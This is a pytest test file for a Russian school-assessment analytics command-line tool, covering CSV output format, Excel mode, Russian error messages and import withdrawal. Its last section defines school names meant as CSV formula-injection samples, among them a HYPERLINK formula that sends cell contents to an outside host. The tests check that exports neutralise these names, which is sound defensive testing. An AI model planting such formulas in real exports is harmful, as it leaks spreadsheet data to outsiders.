"""The command line as automation uses it: exit codes, CSV format, Russian errors."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from analytics.rubric import load_rubric
from tests.conftest import EXAMPLES, SchoolSpec, write_long_csv

ROOT = Path(__file__).resolve().parents[1]


def run_cli(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "analytics", *args], cwd=ROOT, capture_output=True, timeout=300, check=False
    )


@pytest.fixture(scope="module")
def spring_db(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("cli") / "cli.duckdb"
    done = run_cli(
        "import", str(EXAMPLES / "region_long_spring_2026.csv"), "--round", "Весна 2026", "--db", str(db)
    )
    assert done.returncode == 0, done.stderr.decode()
    assert "школ новых — 14" in done.stdout.decode()
    return db


class TestLevelsOutput:
    def test_levels_csv_columns_and_encoding(self, spring_db):
        """UTF-8 without BOM, commas, identity then total, level and each track's pair."""
        done = run_cli("levels", "--round", "Весна 2026", "--db", str(spring_db))
        assert done.returncode == 0
        assert not done.stdout.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(done.stdout.decode("utf-8"))))
        assert rows[0][:8] == [
            "inn",
            "name",
            "municipality",
            "form",
            "total",
            "level",
            "knowledge_points",
            "knowledge_level",
        ]
        assert rows[0][-2:] == ["environment_points", "environment_level"]
        assert len(rows) == 15
        levels = {row[5] for row in rows[1:]}
        assert levels <= {"ниже базового", "базовый", "средний", "высокий"}

    def test_excel_flag_writes_semicolons_and_bom(self, spring_db):
        """--excel gives a file Russian Excel opens as is."""
        done = run_cli("levels", "--round", "Весна 2026", "--excel", "--db", str(spring_db))
        assert done.stdout.startswith(b"\xef\xbb\xbf")
        assert done.stdout.decode("utf-8-sig").splitlines()[0].startswith("inn;name;municipality")

    def test_db_option_before_the_subcommand(self, spring_db):
        """--db may come before the subcommand too."""
        done = run_cli(
            "--db",
            str(spring_db),
            "levels",
            "--round",
            "Весна 2026",
            "--municipality",
            "Кировский муниципальный район",
        )
        assert done.returncode == 0
        rows = list(csv.DictReader(io.StringIO(done.stdout.decode())))
        assert rows
        assert {r["municipality"] for r in rows} == {"Кировский муниципальный район"}


class TestCliErrors:
    def test_unknown_round_exits_non_zero_in_russian(self, spring_db):
        """Asking for a round that is not stored names the rounds that are."""
        done = run_cli("levels", "--round", "Осень 2030", "--db", str(spring_db))
        assert done.returncode == 2
        assert "раунд «Осень 2030» не найден; в базе: «Весна 2026»" in done.stderr.decode()

    def test_bad_file_names_the_file_and_writes_nothing(self, tmp_path):
        """A rejected import exits non-zero, names the file and leaves no round behind."""
        bad = tmp_path / "broken.csv"
        bad.write_text("ИНН;Номер показателя;Показатель;Ответ\n123;1;x;y\n", encoding="utf-8")
        db = tmp_path / "store.duckdb"
        done = run_cli("import", str(bad), "--round", "Весна 2026", "--db", str(db))
        assert done.returncode == 2
        assert "broken.csv" in done.stderr.decode()
        rounds = run_cli("rounds", "--db", str(db))
        assert rounds.stdout.decode().strip().splitlines() == ["round,date,methodology,schools"]

    def test_withdraw_from_the_command_line(self, tmp_path):
        """`imports withdraw ID` takes an import back and the log shows it."""
        db = tmp_path / "store.duckdb"
        run_cli(
            "import", str(EXAMPLES / "region_long_spring_2026.csv"), "--round", "Весна 2026", "--db", str(db)
        )
        done = run_cli("imports", "withdraw", "1", "--db", str(db))
        assert done.returncode == 0
        assert "отозвана" in done.stdout.decode()
        log = list(csv.DictReader(io.StringIO(run_cli("imports", "--db", str(db)).stdout.decode())))
        assert log[0]["status"] == "отозвана"


class TestFidelityCommand:
    def test_portal_figure_differing_from_engine_is_listed(self, tmp_path):
        """A protocol stating a total the answers do not give is listed with both figures."""
        import openpyxl

        book = openpyxl.load_workbook(EXAMPLES / "school_protocols_spring_2026.xlsx")
        sheet = book.worksheets[0]
        inn = sheet.title
        for row in sheet.iter_rows(min_row=1, max_row=10):
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("Сумма баллов за весь тест"):
                    cell.value = "Сумма баллов за весь тест: 99"
        changed = tmp_path / "protocols.xlsx"
        book.save(changed)
        db = tmp_path / "store.duckdb"
        assert run_cli("import", str(changed), "--round", "Весна 2026", "--db", str(db)).returncode == 0
        done = run_cli("fidelity", "--round", "Весна 2026", "--db", str(db))
        rows = list(csv.DictReader(io.StringIO(done.stdout.decode())))
        assert [(r["inn"], r["scope"], r["points_portal"]) for r in rows] == [(inn, "total", "99")]
        assert rows[0]["points_engine"] != "99"


HOSTILE_NAMES = ('=HYPERLINK("http://example.com/?"&A2,"СОШ №1")', "+7 999 123-45-67", "-x школа")
"""School names a spreadsheet would run as a formula or a link if written raw."""


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """Two rounds of three schools with hostile names, one in a hostile municipality; the
    autumn round fails every critical indicator, so its totals fall."""
    rubric = load_rubric("demo-2025")
    folder = tmp_path_factory.mktemp("hostile")
    criticals = tuple(i.number for i in rubric.indicators_of("general") if i.is_critical)
    rounds = {"Весна 2026": (), "Осень 2026": criticals}
    db = folder / "store.duckdb"
    for round_name, failed in rounds.items():
        schools = [
            SchoolSpec(inn=f"47000000{i:02d}", name=name, municipality="@район", failed_critical=failed)
            for i, name in enumerate(HOSTILE_NAMES)
        ]
        export = write_long_csv(folder / f"{round_name}.csv", rubric, schools)
        done = run_cli("import", str(export), "--round", round_name, "--db", str(db))
        assert done.returncode == 0, done.stderr.decode()
    return db


def read_cli_csv(done: subprocess.CompletedProcess[bytes], *, excel: bool) -> list[dict[str, str]]:
    assert done.returncode == 0, done.stderr.decode()
    text = done.stdout.decode("utf-8-sig" if excel else "utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


class TestFormulaInjection:
    """Names from the data reach CSV exports inert; numbers stay numbers."""

    @pytest.mark.parametrize("excel", [False, True])
    def test_levels_neutralise_names_and_keep_points(self, hostile_db, excel):
        flag = ["--excel"] if excel else []
        rows = read_cli_csv(
            run_cli("levels", "--round", "Весна 2026", *flag, "--db", str(hostile_db)), excel=excel
        )
        assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE_NAMES)
        assert {r["municipality"] for r in rows} == {"'@район"}
        assert {r["inn"] for r in rows} == {"4700000000", "4700000001", "4700000002"}
        assert {r["total"] for r in rows} == {"100"}
        assert {r["knowledge_points"] for r in rows} == {"17"}

    def test_compare_neutralises_names_and_keeps_totals(self, hostile_db):
        done = run_cli(
            "compare", "--from", "Весна 2026", "--to", "Осень 2026", "--excel", "--db", str(hostile_db)
        )
        rows = read_cli_csv(done, excel=True)
        assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE_NAMES)
        assert all(int(r["total_from"]) > int(r["total_to"]) for r in rows)
        assert {r["change"] for r in rows} == {"снижение"}

    def test_schools_list_neutralises_names(self, hostile_db):
        rows = read_cli_csv(run_cli("schools", "--excel", "--db", str(hostile_db)), excel=True)
        assert sorted(r["name"] for r in rows) == sorted("'" + name for name in HOSTILE_NAMES)
